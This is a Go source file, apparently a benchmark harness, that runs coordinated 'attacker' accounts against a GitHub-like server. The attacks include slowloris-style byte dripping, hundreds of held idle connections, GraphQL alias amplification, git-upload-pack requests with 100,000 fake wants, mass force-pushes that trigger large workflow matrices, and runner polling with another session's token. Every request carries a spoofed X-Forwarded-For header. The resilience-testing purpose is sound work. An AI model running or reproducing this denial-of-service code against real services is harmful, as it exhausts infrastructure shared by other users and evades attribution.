package bench

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os/exec"
	"strings"
	"time"

	"golang.org/x/sync/errgroup"
)

// An Assault is what one process does to a server that others use: all that was found
// to cost everybody something, at the same time and at a fixed rate. What the server
// answers is nothing to it, and it goes on when it is refused.
type Assault struct {
	URL       string
	Attackers []Attacker
	Env       []string // of git
}

// An Attacker is an account that attacks.
type Attacker struct {
	From   string // the address that it seems to come from
	Token  string
	Owner  string
	Repo   string // public
	Page   string // path of the page with its summary
	Poll   string // the poll of a runner in a session that is not its own
	Runner string // and that runner's token
	Clone  string // with the branches that it pushes
}

// The rates of an attacker, and how much of each it has at the same time.
const (
	pagesEvery   = 250 * time.Millisecond
	queriesEvery = 250 * time.Millisecond
	pushesEvery  = 5 * time.Second
	wantsEvery   = time.Second
	pollsEvery   = 3 * time.Millisecond
	unreadRaws   = 12
	slowBodies   = 32
	idleConns    = 550
	dripEvery    = time.Second
	holdTime     = 45 * time.Second // a server waits 30

	attackBranches = 20
	attackJobs     = 19
	attackMatrix   = 250
	attackWants    = 100_000
	attackFile     = 32 << 20 // bytes
)

// Run attacks until ctx ends.
func (a *Assault) Run(ctx context.Context) error {
	group, ctx := errgroup.WithContext(ctx)
	for _, x := range a.Attackers {
		every := func(d time.Duration, f func(context.Context, Attacker)) {
			group.Go(func() error {
				t := time.NewTicker(d)
				defer t.Stop()
				for {
					f(ctx, x)
					select {
					case <-t.C:
					case <-ctx.Done():
						return nil
					}
				}
			})
		}
		every(pagesEvery, a.page)
		every(queriesEvery, a.query)
		every(pushesEvery, a.push)
		every(wantsEvery, a.want)
		every(pollsEvery, a.poll)
		for range unreadRaws {
			every(dripEvery, a.unread)
		}
		for range slowBodies {
			every(dripEvery, a.slow)
		}
		for range idleConns {
			every(dripEvery, a.idle)
		}
	}
	return group.Wait()
}

// send sends a request on a connection of its own, which ends with ctx.
func (a *Assault) send(ctx context.Context, x Attacker, method, path string, length int, body io.Reader) (net.Conn, error) {
	host := strings.TrimPrefix(a.URL, "http://")
	var d net.Dialer
	c, err := d.DialContext(ctx, "tcp", host)
	if err != nil {
		return nil, err
	}
	context.AfterFunc(ctx, func() { c.Close() })
	w := bufio.NewWriter(c)
	fmt.Fprintf(w, "%s %s HTTP/1.1\r\nHost: %s\r\nX-Forwarded-For: %s\r\nAuthorization: Bearer %s\r\nAccept: application/vnd.github.raw\r\n", method, path, host, x.From, x.Token)
	if method == http.MethodPost {
		kind := "application/json"
		if strings.HasSuffix(path, "/git-upload-pack") {
			kind = "application/x-git-upload-pack-request"
		}
		fmt.Fprintf(w, "Content-Type: %s\r\nContent-Length: %d\r\n", kind, length)
	}
	fmt.Fprint(w, "\r\n")
	if body != nil {
		_, _ = io.Copy(w, body) // what is refused is refused
	}
	if err := w.Flush(); err != nil {
		c.Close()
		return nil, err
	}
	return c, nil
}

// ask sends a request and reads the answer to its end.
func (a *Assault) ask(ctx context.Context, x Attacker, method, path string, body []byte) {
	ctx, cancel := context.WithTimeout(ctx, time.Minute)
	defer cancel()
	c, err := a.send(ctx, x, method, path, len(body), bytes.NewReader(body))
	if err != nil {
		return
	}
	defer c.Close()
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return
	}
	defer resp.Body.Close()
	_, _ = io.Copy(io.Discard, resp.Body) // it may be cut off
}

// page looks at a summary that takes long to render, without signing in.
func (a *Assault) page(ctx context.Context, x Attacker) {
	a.ask(ctx, Attacker{From: x.From}, http.MethodGet, x.Page, nil)
}

// query asks for the same thing under very many names.
func (a *Assault) query(ctx context.Context, x Attacker) {
	var q strings.Builder
	q.WriteString("{")
	for i := range 2000 {
		fmt.Fprintf(&q, "a%d: repository(owner: %q, name: %q) { owner { login } } ", i, x.Owner, x.Repo)
	}
	q.WriteString("}")
	body, err := json.Marshal(object{"query": q.String()})
	if err == nil {
		a.ask(ctx, x, http.MethodPost, "/api/graphql", body)
	}
}

// push pushes branches whose workflows have thousands of jobs.
func (a *Assault) push(ctx context.Context, x Attacker) {
	git := func(args ...string) {
		cmd := exec.CommandContext(ctx, "git", args...)
		cmd.Dir, cmd.Env = x.Clone, a.Env
		_ = cmd.Run() // what is refused is refused
	}
	git("commit", "--quiet", "--allow-empty", "--message", "again")
	push := []string{"-c", "http.extraHeader=X-Forwarded-For: " + x.From, "push", "--quiet", "--force", "origin"}
	for i := range attackBranches {
		push = append(push, fmt.Sprintf("HEAD:refs/heads/attack-%d", i))
	}
	git(push...)
}

// want asks for very many commits that are not there.
func (a *Assault) want(ctx context.Context, x Attacker) {
	var b bytes.Buffer
	for i := range attackWants {
		fmt.Fprintf(&b, "0032want %040x\n", i)
	}
	b.WriteString("00000009done\n")
	a.ask(ctx, x, http.MethodPost, "/"+x.Owner+"/"+x.Repo+".git/git-upload-pack", b.Bytes())
}

// poll polls as a runner that does not wait between its refusals.
func (a *Assault) poll(ctx context.Context, x Attacker) {
	a.ask(ctx, Attacker{From: x.From, Token: x.Runner}, http.MethodGet, x.Poll, nil)
}

// unread asks for a large file and does not read it, until the server has had enough.
func (a *Assault) unread(ctx context.Context, x Attacker) {
	a.hold(ctx, x, http.MethodGet, "/api/v3/repos/"+x.Owner+"/"+x.Repo+"/contents/large", 0)
}

// slow sends a byte of a fetch now and then.
func (a *Assault) slow(ctx context.Context, x Attacker) {
	a.hold(ctx, x, http.MethodPost, "/"+x.Owner+"/"+x.Repo+".git/git-upload-pack", 1<<20)
}

// idle keeps a connection that it does not use.
func (a *Assault) idle(ctx context.Context, x Attacker) {
	a.hold(ctx, x, http.MethodGet, "/healthz", 0)
}

// hold sends a request and then a byte of its body now and then, and reads nothing,
// until the server closes the connection or has had the time for it.
func (a *Assault) hold(ctx context.Context, x Attacker, method, path string, length int) {
	ctx, cancel := context.WithTimeout(ctx, holdTime)
	defer cancel()
	c, err := a.send(ctx, x, method, path, length, nil)
	if err != nil {
		return
	}
	defer c.Close()
	for pause(ctx, dripEvery) == nil {
		if length == 0 {
			continue
		}
		if _, err := c.Write([]byte("0")); err != nil {
			return
		}
	}
}
